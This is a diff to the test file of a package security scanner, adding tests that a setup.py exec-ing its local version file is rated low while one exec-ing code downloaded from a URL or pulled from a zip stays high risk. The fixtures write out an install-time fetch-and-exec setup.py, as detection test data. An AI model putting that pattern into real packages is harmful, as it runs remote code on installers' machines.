@@ -9,7 +9,10 @@ malicious twin that must stay high:
 * a parser's syntax-test corpus (many Python files that do not parse, which nothing imports)
   is shown at medium, not as code hidden from the scan;
 * a broken archive in a test folder (an archive library's fixture) is reported once, at
-  medium: the scan's second attempt to open it no longer adds a high copy.
+  medium: the scan's second attempt to open it no longer adds a high copy;
+* ``setup.py`` running its version file opened as a pathlib path
+  (``with (root / "about.py").open() as f: exec(f.read(), about)``) runs a local file, as
+  ``open(path)`` does.
 """
 
 from __future__ import annotations
@@ -18,7 +21,7 @@ import tarfile
 
 from app.core.archive import Limits, open_artifact
 from app.core.capabilities.scan import scan_artifact
-from tests.core.archive.fixtures import make_wheel, zip_bytes
+from tests.core.archive.fixtures import make_sdist, make_wheel, zip_bytes
 
 HIGH = ("high", "critical")
 
@@ -181,3 +184,41 @@ def test_the_same_broken_archive_in_the_package_stays_unread_high(tmp_path):
     res = _scan(tmp_path, files)
     assert "disguise.unread" in _ids(res)
     assert res.risk.level in HIGH
+
+
+def _setup(opener: str) -> bytes:
+    return f"""import urllib.request
+import zipfile
+from pathlib import Path
+from setuptools import setup
+
+root = Path(__file__).parent
+about = {{}}
+with {opener} as f:
+    exec(f.read(), about)
+setup(name="gizmo", version=about["__version__"])
+""".encode()
+
+
+def _scan_setup(tmp_path, opener: str):
+    files = {"setup.py": _setup(opener), "gizmo/about.py": b'__version__ = "1.0"\n'}
+    tmp_path.mkdir()
+    return scan_artifact(open_artifact(make_sdist(tmp_path, name="gizmo", files=files)))
+
+
+def test_setup_py_running_its_version_file_opened_as_a_path_is_no_install_threat(tmp_path):
+    for opener in ('(root / "gizmo" / "about.py").open("r")', 'Path("gizmo/about.py").open()'):
+        res = _scan_setup(tmp_path / str(len(opener)), opener)
+        ran = [h for h in res.findings if h.capability == "exec.dynamic"]
+        assert ran and all(h.severity == "low" for h in ran), opener  # shown, as a local file
+        assert res.risk.level not in HIGH, opener
+
+
+def test_setup_py_running_what_it_downloads_or_pulls_from_an_archive_stays_high(tmp_path):
+    for opener in (
+        'urllib.request.urlopen("http://192.0.2.9/about.py")',
+        'zipfile.ZipFile("gizmo/blob.zip").open("about.py")',
+    ):
+        res = _scan_setup(tmp_path / str(len(opener)), opener)
+        assert "place.install_time" in _ids(res) or "chain.remote_exec" in _ids(res), opener
+        assert res.risk.level in HIGH, opener
